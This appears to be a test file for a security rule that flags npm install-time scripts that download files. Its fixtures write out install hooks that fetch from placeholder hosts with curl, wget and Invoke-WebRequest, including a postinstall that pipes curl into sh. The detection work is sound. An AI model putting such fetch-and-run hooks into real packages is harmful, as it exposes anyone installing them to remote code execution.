import { join } from 'node:path';
import { testRule, testSamples } from '../../test-support/rule-tester.js';
import { rule } from './rule.js';

const pkg = (scripts: Record<string, string>) => ({ name: 'p', version: '1.0.0', scripts });

testRule(rule, {
  valid: [
    { name: 'prebuild-install', code: '', manifest: pkg({ install: 'prebuild-install || node-gyp rebuild' }) },
    { name: 'download in a build script', code: '', manifest: pkg({ build: 'curl -o x https://x.example.invalid/x' }) },
    { name: 'curl piped to sh is the remote-payload rule', code: '', manifest: pkg({ postinstall: 'curl -s https://x.example.invalid/i | sh' }) },
    { name: 'curl without a URL (version check)', code: '', manifest: pkg({ preinstall: 'curl --version || echo no curl' }) },
  ],
  invalid: [
    { name: 'curl | tar', code: '', manifest: pkg({ postinstall: 'curl -sL https://x.example.invalid/a.tgz | tar xz' }), errors: [{ message: /^postinstall downloads hxxps:\/\/x\[\.\]example\[\.\]invalid\/a\.tgz: curl/, line: 1 }] },
    { name: 'wget to a file', code: '', manifest: pkg({ preinstall: 'wget -q http://203.0.113.5/x -O /tmp/x' }), errors: [{ message: /preinstall downloads/ }] },
    { name: 'Invoke-WebRequest', code: '', manifest: pkg({ install: 'powershell -c "Invoke-WebRequest https://x.example.invalid/a.zip -OutFile a.zip"' }), errors: [{ message: /install downloads/ }] },
  ],
});

testSamples(rule, join(import.meta.dirname, 'samples'));
